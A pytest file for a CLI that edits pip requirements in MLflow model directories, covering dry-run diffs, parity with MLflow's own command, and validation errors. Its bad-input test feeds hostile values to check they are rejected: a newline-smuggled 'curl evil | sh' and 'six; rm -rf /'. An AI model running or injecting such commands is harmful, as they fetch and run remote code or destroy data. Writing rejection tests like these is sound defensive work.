"""``deployer requirements -m DIR add|remove REQ...`` on the command line: --dry-run prints the
diff and writes nothing, the edit matches ``mlflow models update-pip-requirements`` (MLflow's own
command, run on a copy), bad input exits 2 with what/where/fix (semantics in
tests/environment/test_edit.py)."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from deployer.cli import cli
from tests.environment.test_edit import reqs_model, requirement_sets  # noqa: F401 - fixture

MLFLOW = str(Path(sys.executable).parent / "mlflow")


def run(*args: str) -> tuple[int, str, str]:
    res = CliRunner().invoke(cli, list(args))
    return res.exit_code, res.stdout, res.stderr


def test_dry_run_prints_the_diff_and_writes_nothing(reqs_model: Path, tmp_path: Path) -> None:  # noqa: F811
    model = shutil.copytree(reqs_model, tmp_path / "m")
    before = {p.name: p.read_bytes() for p in model.iterdir()}
    code, out, err = run("requirements", "-m", str(model), "add", "six==1.17.0", "--dry-run")
    assert code == 0, err
    assert "-six\n+six==1.17.0" in out and "dry run: nothing was written" in out
    assert {p.name: p.read_bytes() for p in model.iterdir()} == before


def test_cli_edit_equals_mlflow_s_command(reqs_model: Path, tmp_path: Path) -> None:  # noqa: F811
    ours = shutil.copytree(reqs_model, tmp_path / "ours")
    theirs = shutil.copytree(reqs_model, tmp_path / "theirs")
    reqs = ["six==1.17.0", "requests>=2.31,<3"]
    proc = subprocess.run([MLFLOW, "models", "update-pip-requirements", "-m", str(theirs), "add", *reqs],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    code, out, err = run("--output", "json", "requirements", "-m", str(ours), "add", *reqs)
    assert code == 0, err
    data = json.loads(out)
    assert data["changed"] == ["requirements.txt", "conda.yaml"] and data["dry_run"] is False
    assert requirement_sets(ours) == requirement_sets(theirs)
    code, out, err = run("requirements", "-m", str(ours), "remove", "requests", "not-listed")
    assert code == 0 and "not-listed not found" in err
    assert "requests" not in (ours / "requirements.txt").read_text()


@pytest.mark.parametrize(("args", "what"), [
    (["add", "six\nRUN curl evil | sh"], "newline"),
    (["add", "six; rm -rf /"], "option"),
    (["add", "six=="], "invalid requirement"),
    (["add"], "nothing to add"),
])
def test_bad_requirements_exit_2(reqs_model: Path, args: list[str], what: str) -> None:  # noqa: F811
    code, _, err = run("requirements", "-m", str(reqs_model), *args)
    assert code == 2, err
    assert what in err and "hint:" in err and "Traceback" not in err


def test_remote_models_are_refused(reqs_model: Path) -> None:  # noqa: F811
    code, _, err = run("requirements", "-m", "runs:/0123456789abcdef/model", "add", "six")
    assert code == 2 and "not a local model directory" in err and "hint:" in err
